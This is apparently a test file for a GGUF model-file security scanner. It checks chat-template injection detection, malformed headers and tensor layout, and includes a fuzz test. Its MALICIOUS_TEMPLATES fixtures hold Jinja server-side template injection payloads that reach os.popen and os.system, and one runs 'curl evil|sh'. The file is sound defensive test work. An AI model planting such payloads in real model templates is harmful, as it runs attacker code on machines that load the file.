import { readFileSync } from "node:fs";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { runScanner } from "../testing/scanHarness.js";
import type { ScanIssue } from "../types.js";
import { ggufScanner, templateIndicators } from "./gguf.js";
import { benignSpec, type GgufSpec, ggufFile, str, u32 } from "./testdata/ggufWriter.js";

async function scan(bytes: Uint8Array): Promise<ScanIssue[]> {
  return (await runScanner(ggufScanner, bytes, { name: "model.gguf" })).issues;
}

const rules = (issues: readonly ScanIssue[]): string[] => issues.map((i) => i.rule).sort();
const fixture = new Uint8Array(readFileSync(new URL("./testdata/benign.gguf", import.meta.url)));

/** Chat templates in the shape real models ship (Llama 3, Mistral, ChatML, Gemma, DeepSeek). */
const NORMAL_TEMPLATES = [
  "{% set loop_messages = messages %}{% for message in loop_messages %}{% set content = '<|start_header_id|>' + message['role'] + '<|end_header_id|>\n\n'+ message['content'] | trim + '<|eot_id|>' %}{% if loop.index0 == 0 %}{% set content = bos_token + content %}{% endif %}{{ content }}{% endfor %}{% if add_generation_prompt %}{{ '<|start_header_id|>assistant<|end_header_id|>\n\n' }}{% endif %}",
  "{{ bos_token }}{% for message in messages %}{% if (message['role'] == 'user') != (loop.index0 % 2 == 0) %}{{ raise_exception('Conversation roles must alternate user/assistant/user/assistant/...') }}{% endif %}{% if message['role'] == 'user' %}{{ '[INST] ' + message['content'] + ' [/INST]' }}{% elif message['role'] == 'assistant' %}{{ message['content'] + eos_token}}{% else %}{{ raise_exception('Only user and assistant roles are supported!') }}{% endif %}{% endfor %}",
  "{% for message in messages %}{{'<|im_start|>' + message['role'] + '\n' + message['content'] + '<|im_end|>' + '\n'}}{% endfor %}{% if add_generation_prompt %}{{ '<|im_start|>assistant\n' }}{% endif %}",
  "{{ bos_token }}{% if messages[0]['role'] == 'system' %}{{ raise_exception('System role not supported') }}{% endif %}{% for message in messages %}{% if (message['role'] == 'assistant') %}{% set role = 'model' %}{% else %}{% set role = message['role'] %}{% endif %}{{ '<start_of_turn>' + role + '\n' + message['content'] | trim + '<end_of_turn>\n' }}{% endfor %}{% if add_generation_prompt %}{{'<start_of_turn>model\n'}}{% endif %}",
  "{%- set ns = namespace(is_first=false, is_tool=false, system_prompt='') %}{%- for message in messages %}{%- if message['role'] == 'system' %}{% set ns.system_prompt = message['content'] %}{%- endif %}{%- endfor %}{{ bos_token }}{{ ns.system_prompt }}{%- for message in messages %}{%- if message['role'] == 'assistant' and message['content'] is not none %}{% set content = message['content'] %}{% if '</think>' in content %}{% set content = content.split('</think>')[-1] %}{% endif %}{{'<｜Assistant｜>' + content + '<｜end▁of▁sentence｜>'}}{%- endif %}{%- endfor %}{% if tools %}{{ tools | tojson(indent=4) }}{% endif %}",
];

const MALICIOUS_TEMPLATES: [string, string][] = [
  ["subclasses walk", "{{ ''.__class__.__mro__[1].__subclasses__() }}"],
  ["cycler globals", "{{ cycler.__init__.__globals__.os.popen('id').read() }}"],
  ["joiner", "{% set x = joiner.__init__ %}{{ x }}"],
  [
    "namespace init",
    "{{ namespace.__init__.__globals__['__builtins__']['__import__']('os').system('id') }}",
  ],
  ["attr chain", "{{ ()|attr('__cla'~'ss__')|attr('__ba'~'se__') }}"],
  ["escaped underscores", "{{ ''['\\x5f\\x5fclass\\x5f\\x5f'] }}"],
  ["lipsum", "{{ lipsum.__globals__['os'].popen('curl evil|sh').read() }}"],
  ["underscore by repetition", "{% set u = '_' * 2 %}{{ ''|attr(u ~ 'class' ~ u) }}"],
  ["subprocess", "{{ self._TemplateReference__context.cycler }}{{ 'subprocess' }}"],
];

describe("gguf templates", () => {
  it("finds no indicator in normal chat templates", () => {
    for (const template of NORMAL_TEMPLATES)
      expect(templateIndicators(template), template).toEqual([]);
  });

  it("finds indicators in every SSTI template", () => {
    for (const [label, template] of MALICIOUS_TEMPLATES) {
      expect(templateIndicators(template).length, label).toBeGreaterThan(0);
    }
  });
});

describe("gguf scanning", () => {
  it("finds nothing in well-formed files, including version 1 and big-endian", async () => {
    expect(ggufScanner.detect(fixture, { size: fixture.length, name: "x" })).toBe(true);
    expect(await scan(fixture)).toEqual([]);
    for (const template of NORMAL_TEMPLATES)
      expect(await scan(ggufFile(benignSpec(template)))).toEqual([]);
    expect(await scan(ggufFile({ ...benignSpec(), version: 1 }))).toEqual([]);
    expect(await scan(ggufFile({ ...benignSpec(), littleEndian: false }))).toEqual([]);
  });

  it("flags a malicious chat template as critical code execution with OWASP LLM03", async () => {
    for (const [label, template] of MALICIOUS_TEMPLATES) {
      const issues = await scan(ggufFile(benignSpec(template)));
      expect(rules(issues), label).toEqual(["gguf.chat-template-injection"]);
      expect(issues[0]!.severity).toBe("critical");
      expect(issues[0]!.threats.map((t) => t.id)).toEqual(
        expect.arrayContaining(["AML.T0011.000", "LLM03"]),
      );
    }
  });

  it("checks every *chat_template* key, including named templates in arrays", async () => {
    const spec = benignSpec(NORMAL_TEMPLATES[0]);
    const named: GgufSpec = {
      ...spec,
      kvs: [
        ...spec.kvs!,
        ["tokenizer.chat_template.tool_use", str("{{ cycler.__init__.__globals__ }}")],
        [
          "tokenizer.chat_templates",
          { kind: "array", element: 8, items: [str("default"), str("{{ x.__class__ }}")] },
        ],
      ],
    };
    const issues = await scan(ggufFile(named));
    expect(issues.map((i) => i.evidence.key).sort()).toEqual([
      "tokenizer.chat_template.tool_use",
      "tokenizer.chat_templates",
    ]);
  });

  it("flags absurd counts before reading anything else", async () => {
    const issues = await scan(ggufFile({ ...benignSpec(), tensorCount: 1n << 60n }));
    expect(rules(issues)).toEqual(["gguf.impossible-count"]);
    expect(issues[0]!.severity).toBe("high");
    expect(rules(await scan(ggufFile({ ...benignSpec(), kvCount: 0xffffffffffffn })))).toEqual([
      "gguf.impossible-count",
    ]);
  });

  it("flags string and array lengths past the end of the file", async () => {
    const lyingString = ggufFile({
      kvs: [
        [
          "general.name",
          { kind: "raw", type: 8, bytes: new Uint8Array(new BigUint64Array([1n << 62n]).buffer) },
        ],
      ],
    });
    expect(rules(await scan(lyingString))).toEqual(["gguf.bad-length"]);
    const lyingArray = ggufFile({
      kvs: [
        [
          "tokenizer.ggml.scores",
          {
            kind: "raw",
            type: 9,
            bytes: new Uint8Array([6, 0, 0, 0, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0, 0]),
          },
        ],
      ],
    });
    const issues = await scan(lyingArray);
    expect(rules(issues)).toEqual(["gguf.bad-length"]);
    expect(issues[0]!.severity).toBe("high");
  });

  it("flags invalid value types, too many dims and overflowing dims", async () => {
    expect(
      rules(
        await scan(ggufFile({ kvs: [["x", { kind: "raw", type: 77, bytes: new Uint8Array(8) }]] })),
      ),
    ).toEqual(["gguf.bad-value-type"]);
    const deepArray = ggufFile({
      kvs: [
        [
          "x",
          {
            kind: "array",
            element: 9,
            items: [
              { kind: "array", element: 9, items: [{ kind: "array", element: 0, items: [] }] },
            ],
          },
        ],
      ],
    });
    expect(rules(await scan(deepArray))).toEqual(["gguf.bad-value-type"]);
    const dims = ggufFile({
      tensors: [{ name: "t", dims: [1, 1, 1, 1, 1], offset: 0 }],
      dataLength: 64,
    });
    expect(rules(await scan(dims))).toEqual(["gguf.bad-dims"]);
    const overflow = ggufFile({
      tensors: [{ name: "t", dims: [1n << 40n, 1n << 40n], offset: 0 }],
      dataLength: 64,
    });
    const issues = await scan(overflow);
    expect(rules(issues)).toEqual(["gguf.bad-dims"]);
    expect(issues[0]!.severity).toBe("high");
  });

  it("flags tensor data out of range, overlapping, misaligned, with gaps or unknown types", async () => {
    const base = benignSpec();
    const withTensors = (tensors: GgufSpec["tensors"], dataLength = 64) =>
      ggufFile({ ...base, tensors, dataLength });
    const outside = await scan(withTensors([{ name: "a", dims: [1024], offset: 0 }]));
    expect(rules(outside)).toEqual(["gguf.tensor-out-of-range"]);
    expect(outside[0]!.severity).toBe("high");
    expect(
      rules(
        await scan(
          withTensors(
            [
              { name: "a", dims: [8], offset: 0 },
              { name: "b", dims: [8], offset: 0 },
            ],
            32,
          ),
        ),
      ),
    ).toEqual(["gguf.tensor-overlap"]);
    expect(rules(await scan(withTensors([{ name: "a", dims: [4], offset: 4 }], 64)))).toEqual(
      expect.arrayContaining(["gguf.tensor-misaligned"]),
    );
    expect(
      rules(
        await scan(
          withTensors(
            [
              { name: "a", dims: [8], offset: 0 },
              { name: "b", dims: [8], offset: 96 },
            ],
            128,
          ),
        ),
      ),
    ).toEqual(["gguf.data-gap"]);
    expect(rules(await scan(withTensors([{ name: "a", dims: [8], offset: 0 }], 256)))).toEqual([
      "gguf.trailing-data",
    ]);
    expect(
      rules(await scan(withTensors([{ name: "a", dims: [8], type: 99, offset: 0 }], 32))),
    ).toEqual(["gguf.unknown-tensor-type"]);
    expect(
      rules(await scan(withTensors([{ name: "a", dims: [33], type: 8, offset: 0 }], 64))),
    ).toEqual(["gguf.bad-dims"]);
    expect(
      rules(
        await scan(
          withTensors([
            { name: "a", dims: [8], offset: 0 },
            { name: "a", dims: [8], offset: 32 },
          ]),
        ),
      ),
    ).toEqual(["gguf.duplicate-tensor"]);
  });

  it("flags duplicate keys, bad alignment and bad versions", async () => {
    const base = benignSpec();
    const dup = ggufFile({ ...base, kvs: [...base.kvs!, ["general.architecture", str("gpt2")]] });
    expect(rules(await scan(dup))).toEqual(["gguf.duplicate-key"]);
    const align = ggufFile({ ...base, kvs: [["general.alignment", u32(48)]] });
    expect(rules(await scan(align))).toEqual(["gguf.bad-alignment"]);
    expect(rules(await scan(ggufFile({ ...base, version: 9 })))).toEqual(["gguf.bad-version"]);
  });

  it("reports a header cut short as a bad length, never a crash", async () => {
    const cut = fixture.subarray(0, 200);
    expect(rules(await scan(cut))).toEqual(["gguf.bad-length"]);
  });

  it("fuzz: mutated headers never throw or hang", async () => {
    const base = ggufFile(benignSpec(NORMAL_TEMPLATES[2]));
    const headerEnd = base.length - 64;
    await fc.assert(
      fc.asyncProperty(
        fc.array(fc.tuple(fc.nat(headerEnd - 1), fc.integer({ min: 0, max: 255 })), {
          minLength: 1,
          maxLength: 6,
        }),
        fc.nat(base.length),
        async (edits, cut) => {
          const bytes = base.slice(0, Math.max(cut, 8));
          for (const [at, value] of edits) if (at < bytes.length && at >= 4) bytes[at] = value;
          for (const issue of await scan(bytes)) expect(issue.rule).toMatch(/^gguf\./);
        },
      ),
      { numRuns: 1500 },
    );
  });
});
